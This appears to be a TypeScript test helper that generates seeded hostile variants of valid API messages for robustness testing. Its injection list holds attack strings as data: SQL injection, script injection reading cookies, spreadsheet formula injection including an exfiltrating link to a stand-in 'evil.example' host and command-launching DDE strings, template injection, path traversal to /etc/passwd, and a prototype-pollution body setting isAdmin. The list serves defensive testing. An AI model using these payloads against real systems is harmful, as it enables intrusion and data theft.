/**
 * Hostile inputs, generated from valid messages by a seeded generator (the same run every time):
 * wrong types, missing fields, NUL bytes, `__proto__` and `constructor` keys, injection strings,
 * forged identifiers, impossible and far dates, deep nesting, large bodies, invalid UTF-8
 * (docs/faults.md, "Hostile input").
 */

type Json = null | boolean | number | string | Json[] | { [k: string]: Json };

/** One hostile body: its bytes, the content type it is sent with, and what was done to it. */
export interface HostileInput {
  kind: string;
  body: Buffer;
  contentType: string;
}

/** mulberry32: a small seeded generator, so that a failure names an input that can be made again. */
export function seeded(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

const INJECTIONS = [
  "'; DROP TABLE partners; --",
  "1' OR '1'='1",
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(document.cookie)>',
  '=HYPERLINK("http://evil.example/?"&A1)',
  "+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '-2+3',
  '${7*7}{{7*7}}',
  '../../../../etc/passwd',
  '\u202eevil\u202c',
  '\u0000',
  'a\u0000b',
  '\ud800',
  'x'.repeat(100_000),
];
const BAD_DATES = ['2026-02-30', '0000-01-01', '2026-13-01', '9999-12-31', '1900-01-01', '2999-01-01', '2026-09-10T23:59:60Z', '2026-09-10T25:00:00Z', '-002026-09-10', '2026-9-1', '', '20260910'];
const WRONG_TYPES: Json[] = [null, 0, -1, 1e308, true, [], {}, [null], '', 'null', { $gt: '' }];

/** Every path to a leaf or an object member of a JSON value. */
function paths(v: Json, prefix: string[] = []): string[][] {
  if (v === null || typeof v !== 'object') return [prefix];
  const keys = Array.isArray(v) ? v.map((_, i) => String(i)) : Object.keys(v);
  return [prefix, ...keys.flatMap((k) => paths((v as Record<string, Json>)[k], [...prefix, k]))];
}

function setAt(v: Json, path: string[], value: Json | undefined): Json {
  if (path.length === 0) return value === undefined ? null : value;
  const copy: Json = Array.isArray(v) ? [...v] : { ...(v as Record<string, Json>) };
  const [head, ...rest] = path;
  const child = (copy as Record<string, Json>)[head];
  if (rest.length === 0) {
    if (value === undefined) {
      if (Array.isArray(copy)) copy.splice(Number(head), 1);
      else delete (copy as Record<string, Json>)[head];
    } else (copy as Record<string, Json>)[head] = value;
  } else (copy as Record<string, Json>)[head] = setAt(child, rest, value);
  return copy;
}

const json = (v: unknown, kind: string): HostileInput => ({ kind, body: Buffer.from(JSON.stringify(v)), contentType: 'application/json' });

/**
 * `count` hostile variants, the i-th made from `validOf(i)` (valid messages of one shape, each
 * with its own ids, so that each variant is a message of its own). Most are single mutations of
 * one field; a few are whole bodies (deep nesting, 1 MB and 10 MB, invalid UTF-8, not JSON, a
 * wrong media type).
 */
export function hostileVariants(validOf: (i: number) => Json, count: number, random: () => number, options: { large?: boolean } = {}): HostileInput[] {
  const pick = <T>(list: readonly T[]): T => list[Math.floor(random() * list.length)];
  const shape = validOf(0);
  const all = paths(shape).filter((p) => p.length > 0);
  const leaves = all.filter((p) => {
    let v: Json = shape;
    for (const k of p) v = (v as Record<string, Json>)[k];
    return typeof v === 'string';
  });
  const out: HostileInput[] = [];
  for (let i = 0; i < count; i++) {
    const valid = validOf(i);
    const text = JSON.stringify(valid);
    const r = random();
    if (r < 0.2) out.push(json(setAt(valid, pick(all), pick(WRONG_TYPES)), 'wrong type'));
    else if (r < 0.32) out.push(json(setAt(valid, pick(all), undefined), 'missing field'));
    else if (r < 0.52) out.push(json(setAt(valid, pick(leaves), pick(INJECTIONS)), 'injection string'));
    else if (r < 0.64) out.push(json(setAt(valid, pick(leaves), pick(BAD_DATES)), 'impossible or far date'));
    else if (r < 0.72) {
      // Keys that pollute a prototype when a parser or a merge is careless.
      const key = pick(['__proto__', 'constructor', 'prototype']);
      const at = Math.floor(random() * (text.length - 2)) + 1;
      const cut = text.indexOf('{', at) >= 0 ? text.indexOf('{', at) : 0;
      out.push({ kind: 'prototype key', body: Buffer.from(`${text.slice(0, cut + 1)}"${key}":{"isAdmin":true,"polluted":1},${text.slice(cut + 1)}`), contentType: 'application/json' });
    } else if (r < 0.78) out.push(json(setAt(valid, pick(leaves), forged(pick(leaves).join('/'), random)), 'forged identifier'));
    else if (r < 0.82) out.push(json({ ...(valid as Record<string, Json>), unknownField: pick(INJECTIONS) }, 'unknown field'));
    else if (r < 0.86) {
      const depth = 10_000;
      out.push({
        kind: 'nesting 10,000 deep',
        body: Buffer.from(random() < 0.5 ? `${'['.repeat(depth)}${']'.repeat(depth)}` : `${'{"a":'.repeat(depth)}1${'}'.repeat(depth)}`),
        contentType: 'application/json',
      });
    } else if (r < 0.9) {
      const bad = Buffer.from(text);
      const at = Math.floor(random() * bad.length);
      out.push({
        kind: 'invalid UTF-8',
        body: Buffer.concat([bad.subarray(0, at), Buffer.from([pick([0xc3, 0xff, 0xfe, 0xed, 0x80])]), Buffer.from([0x28]), bad.subarray(at)]),
        contentType: 'application/json',
      });
    } else if (r < 0.93)
      out.push({ kind: 'not JSON', body: Buffer.from(pick(['{', 'null', '[]', '"x"', '{"a":1}}', text.slice(0, Math.floor(text.length / 2)), '\u0000'])), contentType: 'application/json' });
    else if (r < 0.96)
      out.push({ kind: 'wrong media type', body: Buffer.from(text), contentType: pick(['text/plain', 'application/xml', 'application/json; charset=latin-9', 'multipart/form-data; boundary=x']) });
    else if (options.large && r < 0.98) out.push(json(setAt(valid, pick(leaves), 'x'.repeat(random() < 0.8 ? 1024 * 1024 : 10 * 1024 * 1024)), 'large body'));
    else out.push(json(setAt(valid, pick(leaves), `${pick(INJECTIONS)}\u0000`), 'NUL byte'));
  }
  return out;
}

/** An identifier that looks right and is not: a NIR with a wrong key, a SIRET failing Luhn, a year-0 date. */
function forged(path: string, random: () => number): string {
  if (/nir|ins/i.test(path)) return `1850775123456${String(Math.floor(random() * 97)).padStart(2, '0')}`;
  if (/siret/i.test(path)) return `7345678901234${Math.floor(random() * 10)}`.slice(0, 14);
  return `${'9'.repeat(13)}00`;
}
